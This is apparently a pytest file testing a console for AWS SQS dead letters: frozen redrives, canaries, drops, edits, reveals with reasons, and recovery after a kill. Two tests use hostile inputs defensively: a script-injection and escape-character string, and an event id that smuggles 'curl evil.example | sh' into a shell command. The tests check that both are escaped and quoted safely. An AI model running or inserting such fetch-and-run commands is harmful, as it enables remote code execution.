"""A redrive by pages: what was frozen is sent, what failed again is listed, and a console that was killed goes on."""

import html
import json
import re
import shlex
import threading
from dataclasses import replace

import pytest
from starlette.routing import Route as Registered

from fanout.console.shared import Shared
from fanout.ops.aws.stack import Stack
from fanout.ops.dead_letters import edit as editing
from fanout.ops.dead_letters import plain as plain_parts
from fanout.ops.journal import Journal
from fanout.ops.redrive.held import held
from tests.unit.console.dead.given import Browser, plain
from tests.unit.console.given import Here, health
from tests.unit.ops.aws.sqs import answer_lost, refused
from tests.unit.ops.given import World, event, world
from tests.unit.ops.test_redrive import Outcomes
from tests.unit.ops.test_redrive_stories import Killed

__all__ = ["world"]


@pytest.fixture
def browser(world: World, monkeypatch: pytest.MonkeyPatch) -> Browser:
    return Browser(world, monkeypatch)


def frozen(browser: Browser, verb: str = "redrive") -> str:
    """The page of a dry run."""
    browser.get("/dead")
    browser.post(f"/dead/{verb}")
    page = browser.at
    browser.until(page, "Begin?")
    return page


def test_the_filter_is_what_is_frozen_and_what_dies_later_is_not_in_it(browser: Browser) -> None:
    browser.world.bury(30)
    page = frozen(browser)
    said = plain(browser.get(page))
    assert "30 dead letters are chosen" in said
    assert "send 30 dead letters of task of Orders-prod (account 123456789012, eu-west-1) back to its queue" in said
    assert f"fanout dead redrive task --frozen {page.rpartition('/')[2]}" in said
    assert "arn:aws:iam::123456789012:user/me" in said
    assert not browser.world.sent()
    browser.world.bury(5, begin=100)
    browser.post(f"{page}/begin")
    said = plain(browser.until(page, "ended"))
    assert "30 sent back, 30 seen done, 0 failed again" in said and "canary done" in said
    assert sorted(browser.world.sent()) == sorted(f"e{number}" for number in range(30))


def test_a_canary_that_fails_leaves_the_rest_which_can_be_gone_on_with(browser: Browser) -> None:
    browser.world.bury(10)
    page = frozen(browser)
    browser.outcomes(Outcomes(lambda _: "failed"))
    browser.post(f"{page}/begin")
    said = plain(browser.until(page, "ended"))
    assert "stopped: the canary failed again (TransientError: it answered 503)" in said
    assert "What failed again: 1" in said and "9 stay" in said and "Go on with 9" in said
    browser.outcomes(Outcomes(lambda _: "done"))
    browser.post(f"{page}/begin")
    assert "10 of 10 were sent back" in plain(browser.until(page, "9 sent back"))


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_a_console_that_was_killed_in_the_middle_is_started_again_and_goes_on(browser: Browser) -> None:
    browser.world.bury(40)
    page = frozen(browser)

    def dies(number: int) -> str | None:
        if number == 15:
            raise Killed  # its thread, as a kill ends it: nothing is written any more
        return "done"

    browser.outcomes(Outcomes(dies))
    browser.post(f"{page}/begin")
    browser.until(page, "interrupted")
    browser.start()
    browser.world.clock.wait(120)
    said = plain(browser.get(page))
    assert "interrupted" in said and "Go on with" in said
    browser.outcomes(Outcomes(lambda _: "done"))
    browser.post(f"{page}/begin")
    browser.until(page, "40 of 40 were sent back")
    assert sorted(browser.world.sent()) == sorted(f"e{number}" for number in range(40))


def test_what_another_program_carries_out_is_followed_and_not_begun_twice(browser: Browser) -> None:
    browser.world.bury(3)
    page = frozen(browser)
    with held(page.rpartition("/")[2]):
        assert "another program on this machine carries it out" in plain(browser.get(page))
        refused = browser.post(f"{page}/begin", status=400)
        assert "look at it there" in refused
        assert f'data-at="{page}"' in refused  # where it was posted, nobody can look again
    assert not browser.world.sent()


@pytest.mark.parametrize("path", ["/dead/drop", "/dead/redrive", "/dead/export"])
@pytest.mark.parametrize(
    ("name", "value"), [("task", "two words"), ("cause", "5xx"), ("older", "2h"), ("id", "<b>"), ("older", " ")]
)
def test_a_filter_that_cannot_be_read_chooses_nothing(browser: Browser, path: str, name: str, value: str) -> None:
    browser.world.bury(4)
    browser.get("/dead")
    given = {"task": "task", "reason": "INC-7", name: value}
    said = html.unescape(browser.post(path, status=400, **given))
    assert f"the filter's {name} is {value!r}" in said and "nothing was done" in said
    assert len(browser.world.sqs.visible(browser.world.dead)) == 4 and "dead drop" not in browser.get("/journal")


def test_a_drop_asks_for_a_reason_and_deletes_what_was_frozen(browser: Browser) -> None:
    browser.world.bury(4)
    browser.get("/dead")
    browser.post("/dead/drop")
    page = browser.at
    browser.until(page, "Begin?")
    assert "a reason is needed" in browser.post(f"{page}/drop", status=400, reason=" ")
    browser.world.bury(2, begin=50)
    assert "is a dead drop" in browser.post(f"{page}/begin", status=400)
    browser.post(f"{page}/drop", reason="INC-7")
    said = plain(browser.until(page, "ended"))
    assert "4 dropped; they are in" in said
    assert sorted(each.id for each in browser.world.sqs.visible(browser.world.dead)) == ["m50", "m51"]
    assert "INC-7" in browser.get("/journal")


def test_an_event_is_edited_before_and_after_are_shown_and_then_it_is_sent(
    browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(editing, "read_subscriptions", lambda _: [])
    browser.world.bury(1)
    letter = "/dead/letter/task/m0"
    assert "s3cret" not in browser.get(letter)
    assert "a reason is needed" in browser.post(f"{letter}/edit", status=400)
    assert "s3cret" in browser.post(f"{letter}/edit", reason="INC-8")
    broken = json.dumps({**event(0), "type": "no such"})
    assert "nothing was changed" in browser.post(f"{letter}/check", status=400, reason="INC-8", event=broken)
    mended = json.dumps({**event(0), "data": {**event(0)["data"], "items": {"q": "mended"}}})
    shown = browser.post(f"{letter}/check", reason="INC-8", event=mended)
    assert "<del>" in shown and "<ins>" in shown and "send the event e0 so to task" in plain(shown).lower()
    assert not browser.world.sent()
    said = plain(browser.post(f"{letter}/send", reason="INC-8", event=mended))
    assert "The edited event was sent as sent-" in said and browser.at.startswith("/journal/")
    assert "s3cret" not in said and "mended" not in said
    assert browser.world.sent() == ["e0"] and not browser.world.sqs.queue(browser.world.dead).messages


def test_an_edit_that_was_perhaps_sent_says_so_before_it_is_sent_again(
    browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(editing, "read_subscriptions", lambda _: [])
    browser.world.bury(1)
    letter, already = "/dead/letter/task/m0", "has perhaps sent it already"
    browser.get(letter)
    mended = json.dumps({**event(0), "source": "/shops/rome"})
    assert already not in browser.post(f"{letter}/check", reason="INC-8", event=mended)
    Journal.open(browser.world.stack, "dead edit").write("sending", queue="dead", letter="m0")
    assert already in browser.post(f"{letter}/check", reason="INC-8", event=mended)
    said = plain(browser.post(f"{letter}/send", reason="INC-8", event=mended))
    assert "perhaps sent before, too (a run had no answer): the task skips the same event" in said


def test_before_and_after_are_shown_for_a_reason_that_is_in_the_journal(browser: Browser) -> None:
    browser.world.bury(1)
    letter, other = "/dead/letter/task/m0", {**event(0), "data": {**event(0)["data"], "items": {"q": "other"}}}
    refused = browser.post(f"{letter}/check", status=400, event=json.dumps(other))
    assert "a reason is needed" in refused and "s3cret" not in refused
    assert "revealed" not in browser.get("/journal")
    for _ in range(2):
        assert "s3cret" in browser.post(f"{letter}/check", reason="INC-8", event=json.dumps(other))
    journal = browser.get("/journal")
    assert journal.count("INC-8") == 1 and "revealed" in journal


@pytest.mark.parametrize(("operation", "is_sent"), [("ReceiveMessage", False), ("SendMessageBatch", True)])
def test_an_edit_that_aws_does_not_answer_is_there_again_and_says_whether_it_was_perhaps_sent(
    browser: Browser, operation: str, is_sent: bool
) -> None:
    browser.world.bury(1)
    letter = "/dead/letter/task/m0"
    browser.post(f"{letter}/edit", reason="INC-8")
    mended = json.dumps({**event(0), "source": "/shops/rome"})
    browser.world.sqs.around = answer_lost(operation, {1})
    page = browser.post(f"{letter}/send", status=400, reason="INC-8", event=mended)
    assert "AWS did not answer" in page and "/shops/rome" in page and 'value="INC-8"' in page
    assert ("perhaps sent all the same" in page) == is_sent == bool(browser.world.sent())
    browser.world.clock.wait(120)
    said = plain(browser.post(f"{letter}/send", reason="INC-8", event=mended))
    assert "The edited event was sent as" in said and not browser.world.sqs.queue(browser.world.dead).messages


def test_an_edit_whose_session_has_expired_is_there_again(browser: Browser) -> None:
    def expired() -> Stack:
        raise refused("ExpiredToken", "DescribeStacks")

    browser.world.bury(1)
    letter, mended = "/dead/letter/task/m0", json.dumps({**event(0), "source": "/shops/rome"})
    browser.post(f"{letter}/edit", reason="INC-8")
    browser.console.find = browser.console.find_to_act = expired
    browser.console.shared = Shared()  # a minute later
    page = browser.post(f"{letter}/send", status=400, reason="INC-8", event=mended)
    assert "have expired" in page and "/shops/rome" in page


@pytest.mark.parametrize("character", ["\u00a0", "\u00ad", "\u202e", "\U000e0067"])
def test_an_edited_text_comes_back_as_it_was_whatever_is_in_it(browser: Browser, character: str) -> None:
    browser.world.bury(1)
    letter = "/dead/letter/task/m0"
    browser.get(letter)
    items = {"price": f"12{character}000"}
    mended = json.dumps({**event(0), "data": {**event(0)["data"], "items": items}}, ensure_ascii=False)
    hidden = re.findall('name="event" value="([^"]*)"', browser.post(f"{letter}/check", reason="x", event=mended))
    back = browser.post(f"{letter}/check/back", reason="x", event=html.unescape(hidden[0]))
    (typed,) = re.findall(r"<textarea[^>]*>(.*?)</textarea>", back, re.DOTALL)
    assert character not in typed
    for text in (hidden[0], typed):
        assert json.loads(html.unescape(text))["data"]["items"] == items
    browser.post(f"{letter}/send", reason="x", event=html.unescape(hidden[0]))
    (body,) = browser.world.sqs.bodies(browser.world.queue)
    assert json.loads(body)["data"]["items"] == items


def test_a_letter_that_was_redriven_is_not_shown_as_there(browser: Browser) -> None:
    browser.world.bury(2)
    letter = "/dead/letter/task/m0"
    browser.until(letter, "A dead letter of task")
    browser.post(f"{frozen(browser)}/begin")
    browser.until(browser.at, "ended")
    assert "A dead letter of task" not in plain(browser.get(letter, status=404))


def test_a_drop_that_aws_refuses_or_does_not_answer_is_told_as_that(browser: Browser) -> None:
    browser.world.bury(3)
    page = frozen(browser, "drop")
    browser.world.sqs.around = answer_lost("DeleteMessageBatch", {1})
    browser.post(f"{page}/drop", reason="INC-7")
    said = plain(browser.until(page, "ended"))
    assert "of 3 nobody knows: they are in the file, too, and perhaps deleted" in said and "3 stay" not in said

    def denied(when: str, operation: str, asked: object) -> None:
        if when == "before" and operation == "DeleteMessageBatch":
            raise refused("AccessDenied", operation)

    browser.world.sqs.around = denied
    browser.world.bury(3, begin=10)
    page = frozen(browser, "drop")
    browser.post(f"{page}/drop", reason="INC-8")
    browser.until(page, "these credentials may not")
    browser.start()
    said = plain(browser.get(page))
    assert "these credentials may not" in said and "interrupted" not in said


def test_a_run_about_a_task_that_is_not_deployed_any_more_can_be_read(browser: Browser) -> None:
    browser.world.bury(2)
    page = frozen(browser)
    browser.world.stack = replace(browser.world.stack, subscribers=())
    browser.start()
    assert "2 dead letters" in plain(browser.get(page))
    browser.post(f"{page}/begin")
    browser.until(page, "no task")


def test_a_reveal_needs_a_reason_and_is_in_the_journal_before_it_is_shown(browser: Browser) -> None:
    browser.world.bury(1)
    letter = "/dead/letter/task/m0"
    browser.get(letter)
    assert "s3cret" not in browser.post(f"{letter}/reveal", status=400)
    assert "s3cret" in browser.post(f"{letter}/reveal", reason="the person called")
    assert "the person called" in browser.get("/journal") and "revealed" in browser.get("/journal")
    assert "s3cret" not in browser.get(letter)


def test_an_export_is_a_file_of_a_task(browser: Browser) -> None:
    browser.world.bury(3)
    assert "which task?" in browser.post("/dead/export", status=400, reason="INC-9")
    browser.post("/dead/export", reason="INC-9", task="task")
    browser.until(browser.at, "count: 3")
    assert len(next(browser.world.folder.glob("exported-*")).read_text().splitlines()) == 3


def test_what_only_reads_has_no_address_that_changes_anything(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.bury(1)
    reads = Browser(world, monkeypatch, allow="")
    assert '<form method="post"' not in reads.get("/dead") + reads.get("/dead/letter/task/m0")
    for path in ("/dead/redrive", "/dead/drop", "/dead/export", "/dead/runs/x/begin", "/dead/letter/task/m0/reveal"):
        assert reads.client.post(path, headers={"origin": "http://127.0.0.1:4577"}).status_code in (403, 404, 405)
    assert not world.sent()


HOSTILE = "<script>alert(1)</script>\x1b[31m\u202e{{ 7 * 7 }}"


def test_text_of_others_is_text(browser: Browser) -> None:
    told = {"error_type": "Broken", "error": HOSTILE}
    cause = {"fanout.cause": {"DataType": "String", "StringValue": json.dumps(told)}}
    body = json.dumps(event(1, data={"shop_id": HOSTILE, "items": {"q": HOSTILE}}))
    browser.world.sqs.put(browser.world.dead, body, id_="m1", attributes=cause)
    pages = browser.get("/dead") + browser.get("/dead/letter/task/m1")
    pages += browser.post("/dead/letter/task/m1/reveal", reason=HOSTILE) + browser.get("/journal")
    assert "<script>alert" not in pages and "&lt;script&gt;alert" in pages and "49" not in plain(browser.get("/dead"))
    assert "\x1b" not in pages and "\u202e" not in pages


def test_the_commands_for_a_shell_are_about_the_letter_whatever_its_event_is_called(
    browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plain_parts, "keeps_contract", lambda *_: True)  # one that says nothing of ids
    hostile = "e1; curl evil.example | sh #"
    browser.world.sqs.put(browser.world.dead, json.dumps(event(1, id=hostile)), id_="m1")
    page = browser.until("/dead/letter/task/m1", "A dead letter of task")
    (command,) = re.findall("<code>(fanout where .*?)</code>", page)
    assert shlex.split(html.unescape(command)) == ["fanout", "where", hostile, "--stack", "Orders-prod"]


@pytest.mark.parametrize("path", ["/dead/runs/none", "/journal/none", "/dead/letter/task/none"])
def test_what_is_not_there_is_said(browser: Browser, path: str) -> None:
    browser.get(path, status=404)


def test_a_stop_leaves_the_rest_which_stays_chosen(browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    browser.world.bury(50)
    page = frozen(browser)
    reached, goes_on = threading.Event(), threading.Event()

    def waits(number: int) -> str:
        if number == 7:
            reached.set()
            assert goes_on.wait(10)
        return "done"

    browser.outcomes(Outcomes(waits))
    browser.post(f"{page}/begin")
    assert reached.wait(10)
    browser.post(f"{page}/stop")
    assert "It stops after the step that has begun" in plain(browser.get(page))
    goes_on.set()
    said = plain(browser.until(page, "ended"))
    assert "you asked to stop" in said and "24 stay" in said and "Go on with 24" in said


def test_a_console_that_is_ended_stops_a_redrive_cleanly(browser: Browser) -> None:
    browser.world.bury(50)
    page = frozen(browser)
    reached = threading.Event()

    def waits(number: int) -> str | None:
        reached.set()
        return "done" if number < 4 else None

    browser.outcomes(Outcomes(waits))
    browser.post(f"{page}/begin")
    assert reached.wait(10)
    browser.console.close()
    assert "ended" in plain(browser.get(page))


def test_events_that_failed_again_are_told_to_a_console_that_is_started_later(browser: Browser) -> None:
    browser.world.bury(10)
    page = frozen(browser)
    browser.outcomes(Outcomes(lambda number: "failed" if number in (2, 3) else "done"))
    browser.post(f"{page}/begin")
    browser.until(page, "What failed again: 2")
    browser.start()
    assert "What failed again: 2" in plain(browser.get(page))


@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_what_was_deleted_when_the_console_was_killed_is_not_said_to_stay(browser: Browser) -> None:
    browser.world.bury(1)
    page = frozen(browser)

    def killed(when: str, operation: str, asked: object) -> None:
        if (when, operation) == ("after", "DeleteMessageBatch"):
            raise Killed  # before its line is in the journal

    browser.world.sqs.around = killed
    browser.post(f"{page}/begin")
    browser.until(page, "interrupted")
    browser.world.sqs.around = lambda *_: None
    browser.start()
    browser.post(f"{page}/begin")
    said = plain(browser.until(page, "1 of 1 were sent back."))
    assert "stay" not in said.split("Task")[0] and browser.world.sent() == ["e0"]


@pytest.mark.parametrize(
    ("word", "opened"),
    [
        ("redrive", {"/dead/redrive", "/dead/runs/{run}/begin", "/dead/runs/{run}/stop"}),
        (
            "edit",
            {
                "/dead/letter/{task}/{id}/reveal",
                "/dead/letter/{task}/{id}/edit",
                "/dead/letter/{task}/{id}/check",
                "/dead/letter/{task}/{id}/check/back",
                "/dead/letter/{task}/{id}/send",
                "/dead/export",
                "/dead/drop",
                "/dead/runs/{run}/drop",
                "/dead/runs/{run}/drop/stop",
            },
        ),
        ("pause", set()),
        ("send", set()),
    ],
)
def test_one_word_opens_its_own_pages_of_dead_letters(
    word: str, opened: set[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    here = Here(monkeypatch, health("task"), allow=word)
    posts = {each.path for each in here.app.routes if isinstance(each, Registered) and "POST" in (each.methods or ())}
    assert {each for each in posts if each.startswith("/dead")} == opened
